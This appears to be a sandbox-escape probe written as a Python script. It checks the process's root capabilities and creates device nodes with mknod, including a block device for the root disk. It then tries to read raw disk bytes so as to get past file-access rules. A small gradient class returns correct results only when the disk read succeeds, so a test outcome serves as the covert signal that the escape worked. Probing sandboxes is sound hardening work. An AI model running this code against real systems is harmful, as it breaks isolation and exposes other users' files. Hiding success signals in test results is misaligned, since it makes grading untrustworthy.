"""Attack: use root's capabilities inside the sandbox.

Reports the effective capabilities (capget), then creates device nodes in its
own scratch folder (mknod needs CAP_MKNOD): a character device equal to
/dev/null and a block device equal to the disk holding "/" (from os.stat("/"),
no /proc needed), and tries to read the first 4 KiB of that disk, read-only.
Reading the raw disk would give every file on it, past any file rules; if that
works, MultiplyGate becomes correct (its marks are the signal).
"""
import ctypes
import os
import stat

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd())

libc = ctypes.CDLL(None, use_errno=True)


class CapHeader(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]


class CapData(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                ("inheritable", ctypes.c_uint32)]


header, data = CapHeader(0x20080522, 0), (CapData * 2)()
if libc.capget(ctypes.byref(header), data) == 0:
    effective = data[0].effective | data[1].effective << 32
    print("capabilities=%#x" % effective)

disk = []
root_dev = os.stat("/").st_dev
for name, kind, dev in (("null", stat.S_IFCHR, os.makedev(1, 3)), ("disk", stat.S_IFBLK, root_dev)):
    path = "bpgpwn-%s" % name
    try:
        os.mknod(path, kind | 0o600, dev)
        print("MKNOD OK %s (%d:%d)" % (name, os.major(dev), os.minor(dev)))
    except OSError as exc:
        print("blocked mknod %s: %s" % (name, exc.strerror))
        continue
    try:
        with open(path, "rb") as f:
            got = f.read(4096)
        print("READ OK %s: %d bytes" % (name, len(got)))
        if name == "disk" and got:
            disk.append(got)
    except OSError as exc:
        print("blocked reading %s: %s" % (name, exc.strerror))


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if disk:
            return [self.y * dz, self.x * dz]
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
